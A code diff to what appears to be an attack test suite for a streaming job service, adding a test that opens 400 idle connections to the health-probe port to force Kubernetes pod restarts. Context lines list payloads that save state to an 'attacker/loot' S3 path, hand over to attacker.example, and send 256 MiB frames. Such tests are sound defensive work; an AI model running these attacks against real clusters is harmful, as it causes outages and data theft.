@@ -12,9 +12,9 @@ import ssl
 from collections.abc import Iterator
 
 from dev.attack.attack import Attack, Succeeded
-from dev.attack.world import World
+from dev.attack.world import World, settle
 
-JOB_API, CONTROL, DATA = 8081, 7001, 7000
+JOB_API, CONTROL, DATA, HEALTH = 8081, 7001, 7000, 8082
 SECONDS = 20
 HUGE = 256 << 20
 
@@ -81,6 +81,31 @@ def huge_frame(port: int, name: str) -> "Attack[World]":
     return Attack(f"256 MiB to the {name} before any identity", play)
 
 
+def silent(count: int, seconds: float) -> "Attack[World]":
+    """Connections to the port of health probes that say nothing."""
+
+    def play(world: World) -> str:
+        pod = world.victim_job.pod()
+        before = restarts(world, pod)
+        with reached(world, HEALTH) as address, contextlib.ExitStack() as held:
+            for _ in range(count):
+                with contextlib.suppress(OSError):
+                    held.enter_context(socket.create_connection(address, timeout=SECONDS))
+            settle(seconds)
+        if restarts(world, pod) != before:
+            raise Succeeded(f"the kubelet restarted {pod}: its probes found no place")
+        world.victim_unharmed()
+        return "probes of the kubelet got through"
+
+    return Attack(f"{count} silent connections to the health port", play)
+
+
+def restarts(world: World, pod: str) -> int:
+    """How often a container of a pod has ended."""
+    statuses = world.victim.get("pod", pod)["status"].get("containerStatuses", [])
+    return sum(status["restartCount"] for status in statuses)
+
+
 ATTACKS = [
     calls("/v1/savepoint", {"key": "theft", "uri": "s3://streamkeeper/state/attacker/loot"}),
     calls("/v1/hand-over", {"key": "end", "to_revision": (1 << 64) - 1, "to_address": "attacker.example:8081"}),
@@ -90,4 +115,6 @@ ATTACKS = [
     huge_frame(CONTROL, "control plane"),
     huge_frame(DATA, "data plane"),
     huge_frame(JOB_API, "Job API"),
+    # The kubelet restarts a container after 30 s without an answer.
+    silent(400, 40),
 ]
